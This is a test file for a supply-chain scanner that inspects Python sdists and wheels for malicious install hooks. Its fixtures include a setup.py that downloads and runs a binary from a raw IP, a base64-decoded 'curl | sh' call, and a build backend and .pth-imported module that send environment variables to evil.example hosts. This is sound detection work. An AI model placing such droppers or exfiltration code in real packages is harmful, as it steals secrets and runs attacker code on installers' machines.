import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyseArchive } from '../../../../src/scanners/supply-chain/content/analyse.js';
import type { ContentIssue } from '../../../../src/scanners/supply-chain/types.js';
import { buildZip } from '../../../store/zip-writer.js';
import { buildTarGz } from './tar-writer.js';

function summary(issues: ContentIssue[]): string[] {
  return issues.map((issue) => `${issue.severity} ${issue.rule} ${issue.file}:${issue.line ?? '-'}`);
}

/** Modelled on sdists whose install command override fetches a binary and runs it. */
const DROPPER_SETUP = `import os
import subprocess
import urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        urllib.request.urlretrieve('http://45.9.148.10/update', '/tmp/update')
        os.chmod('/tmp/update', 0o755)
        subprocess.Popen(['/tmp/update'])


setup(name='dropper', version='1.0', cmdclass={'install': PostInstall})
`;

const PLAIN_SETUP = `import re
from setuptools import setup

version = re.compile(r"__version__ = '(.*)'").search(open('pkg/__init__.py').read()).group(1)
exec(open('pkg/version.py').read())
setup(name='plain', version=version)
`;

describe('analyseArchive on Python sdists', () => {
  it('reports a dropping cmdclass', async () => {
    const archive = await buildTarGz([
      { name: 'dropper-1.0/setup.py', content: DROPPER_SETUP },
      { name: 'dropper-1.0/PKG-INFO', content: 'Name: dropper\n' },
    ]);
    const report = await analyseArchive(archive, 'sdist');
    assert.deepEqual(report.hooks, [{ name: 'setup.py cmdclass', command: 'class PostInstall(install):', file: 'dropper-1.0/setup.py', line: 8 }]);
    assert.deepEqual(summary(report.issues), ['high exfil-host dropper-1.0/setup.py:11', 'medium install-network dropper-1.0/setup.py:3', 'low install-shell dropper-1.0/setup.py:2']);
  });

  it('reports top-level setup.py code', async () => {
    const setup = "import base64, os\nos.system(base64.b64decode('Y3VybCBldmlsIHwgc2g=').decode())\nfrom setuptools import setup\nsetup(name='x')\n";
    const report = await analyseArchive(await buildTarGz([{ name: 'x-1/setup.py', content: setup }]), 'sdist');
    assert.deepEqual(report.hooks, [{ name: 'setup.py top-level', command: "os.system(base64.b64decode('Y3VybCBldmlsIHwgc2g=').decode())", file: 'x-1/setup.py', line: 2 }]);
    assert.deepEqual(summary(report.issues), ['high shell-decoded x-1/setup.py:2']);
  });

  it('accepts an ordinary setup.py', async () => {
    const report = await analyseArchive(await buildTarGz([{ name: 'plain-1/setup.py', content: PLAIN_SETUP }, { name: 'plain-1/pkg/__init__.py', content: "__version__ = '1'\n" }]), 'sdist');
    assert.deepEqual(report.hooks, []);
    assert.deepEqual(report.issues, []);
  });

  it('reports an in-tree build backend', async () => {
    const archive = await buildTarGz([
      { name: 'b-1/pyproject.toml', content: '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n' },
      { name: 'b-1/_build/backend.py', content: "import socket\ns = socket.socket()\ns.connect(('evil.example', 4444))\nimport os\ns.send(str(os.environ).encode())\n" },
    ]);
    const report = await analyseArchive(archive, 'sdist');
    assert.deepEqual(report.hooks, [{ name: 'in-tree build backend', command: 'build-backend = "backend", backend-path = ["_build"]', file: 'b-1/pyproject.toml', line: 4 }]);
    assert.deepEqual(summary(report.issues), ['critical env-exfiltration b-1/_build/backend.py:5']);
  });

  it('marks invalid pyproject.toml incomplete', async () => {
    const report = await analyseArchive(await buildTarGz([{ name: 'b-1/pyproject.toml', content: '[build-system\n' }]), 'sdist');
    assert.deepEqual(report.warnings, []);
    assert.match(report.incomplete?.[0] ?? '', /^b-1\/pyproject\.toml is not valid TOML \(.+\), so its build backend is unknown$/);
  });

  it('reads zip sdists', async () => {
    const report = await analyseArchive(buildZip([{ name: 'dropper-1.0/setup.py', content: DROPPER_SETUP }]), 'sdist');
    assert.equal(report.hooks.length, 1);
    assert.equal(report.issues[0]?.rule, 'exfil-host');
  });
});

describe('analyseArchive on wheels', () => {
  it('reports a .pth that execs base64', async () => {
    const wheel = buildZip([
      { name: 'evil/__init__.py', content: '' },
      { name: 'evil-1.0.pth', content: "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))\n" },
      { name: 'evil-1.0.dist-info/RECORD', content: '' },
    ]);
    const report = await analyseArchive(wheel, 'wheel');
    assert.deepEqual(report.hooks, [{ name: '.pth import', command: "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))", file: 'evil-1.0.pth', line: 1 }]);
    assert.deepEqual(summary(report.issues), ['critical eval-decoded evil-1.0.pth:1']);
  });

  it('accepts path-only .pth files', async () => {
    const report = await analyseArchive(buildZip([{ name: 'extra.pth', content: 'src\n../lib\n' }]), 'wheel');
    assert.deepEqual(report.hooks, []);
    assert.deepEqual(report.issues, []);
  });

  it('weights the module a .pth imports', async () => {
    const wheel = buildZip([
      { name: 'hook.pth', content: 'import _hook\n' },
      { name: '_hook.py', content: "import requests, os\nrequests.post('https://collect.evil.example', json=dict(os.environ))\n" },
      { name: 'pkg/client.py', content: "import requests, os\nrequests.post('https://api.example', json=dict(os.environ))\n" },
    ]);
    const report = await analyseArchive(wheel, 'wheel');
    assert.deepEqual(summary(report.issues), ['critical env-exfiltration _hook.py:2', 'high env-exfiltration pkg/client.py:2']);
  });

  it('lists data scripts as hooks', async () => {
    const report = await analyseArchive(buildZip([{ name: 'tool-1.0.data/scripts/tool', content: '#!python\nprint(1)\n' }]), 'wheel');
    assert.deepEqual(report.hooks, [{ name: 'wheel script', command: 'tool', file: 'tool-1.0.data/scripts/tool' }]);
  });

  it('treats platform .so files as info', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(60)]);
    const report = await analyseArchive(buildZip([{ name: 'pkg/_speedups.cpython-311-x86_64-linux-gnu.so', content: elf }, { name: 'pkg.libs/libz-1a2b.so.1.2.13', content: elf }]), 'wheel');
    assert.deepEqual(summary(report.issues), ['info native-module pkg.libs/libz-1a2b.so.1.2.13:-', 'info native-module pkg/_speedups.cpython-311-x86_64-linux-gnu.so:-']);
  });
});
